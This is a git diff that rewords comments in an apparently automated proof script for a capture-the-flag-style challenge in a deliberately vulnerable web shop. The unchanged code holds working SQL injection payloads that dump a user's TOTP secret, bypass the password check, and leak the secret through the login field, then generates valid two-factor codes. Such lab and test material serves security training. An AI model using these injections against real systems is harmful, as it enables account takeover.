@@ -2,13 +2,13 @@ import { createHmac, randomUUID } from 'node:crypto'
 import { type Attacker, prove } from '@fruit/challenge-kit/proof'
 import { challenge } from './challenge.ts'
 
-/** How many seconds a code is good for. */
+/** Validity of a code in seconds. */
 const STEP = 30
 const SIGNS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'
 
 const mailOf = ({ domain }: Attacker) => `wurstbrot@${domain}`
 
-/** The code of a secret in Base32 at a time in seconds, as an authenticator computes it (RFC 6238). */
+/** Returns the TOTP code of a Base32 secret at a time in seconds (RFC 6238). */
 function codeOf(secret: string, seconds: number): string {
   const bits = [...secret].map((sign) => SIGNS.indexOf(sign).toString(2).padStart(5, '0')).join('')
   const key = Buffer.from((bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2)))
@@ -19,14 +19,14 @@ function codeOf(secret: string, seconds: number): string {
   return String(number % 1_000_000).padStart(6, '0')
 }
 
-/** The time of the shop in seconds: a new account says when it was made. */
+/** Returns the shop's time in seconds, read from the creation date of a new account. */
 async function shopTime(attacker: Attacker): Promise<number> {
   const password = 'ripe plums'
   const body = { email: `${randomUUID()}@customer.test`, password, passwordRepeat: password }
   return Date.parse((await attacker.post('/api/Users', body)).json().data.createdAt) / 1000
 }
 
-/** The secret in the books, by a search that asks for accounts as well. */
+/** Reads the TOTP secret by SQL injection in the search. */
 async function secretOf(attacker: Attacker): Promise<string> {
   const term = "qwert')) UNION SELECT id,email,totpSecret,4,5,6,7,8,9 FROM Users--"
   const answer = await attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
@@ -34,13 +34,13 @@ async function secretOf(attacker: Attacker): Promise<string> {
   return rows.find(({ name }) => name === mailOf(attacker))?.description ?? ''
 }
 
-/** The first step with a password. */
+/** Logs in with a password and returns the temporary token of the second step. */
 async function firstStepOf(attacker: Attacker, email: string, password: string): Promise<string | null> {
   const answer = await attacker.post('/rest/user/login', { email, password })
   return answer.text.startsWith('{') ? (answer.json().data?.tmpToken ?? null) : null
 }
 
-/** The first step, past the password: by a comment, or where that is not enough by a condition that is true. */
+/** Passes the password check by SQL injection: with a comment, or with a condition that is always true. */
 async function firstStep(attacker: Attacker): Promise<string> {
   const email = mailOf(attacker)
   const byComment = await firstStepOf(attacker, `${email}'--`, 'x')
@@ -50,7 +50,7 @@ async function firstStep(attacker: Attacker): Promise<string> {
 const verify = (attacker: Attacker, tmpToken: string, totpToken: unknown) =>
   attacker.post('/rest/2fa/verify', { tmpToken, totpToken })
 
-/** @param off seconds before or after the time of the shop */
+/** @param off seconds added to the shop's time */
 const signIn =
   (off = 0, shown: (code: string) => unknown = (code) => code) =>
   async (attacker: Attacker) => {
@@ -75,7 +75,7 @@ export const proof = prove(challenge, {
       await signIn()(attacker)
     },
     'with the secret from an error of the login': async (attacker) => {
-      // The address that the row holds comes back in the answer; here it holds the secret.
+      // The login response contains the e-mail column, which here holds the secret.
       const columns = "1,'',totpSecret,'','customer','','','','',1,'2020','2020',NULL"
       const email = `' UNION SELECT ${columns} FROM Users WHERE email='${mailOf(attacker)}'--`
       const { authentication } = (await attacker.post('/rest/user/login', { email, password: 'x' })).json()
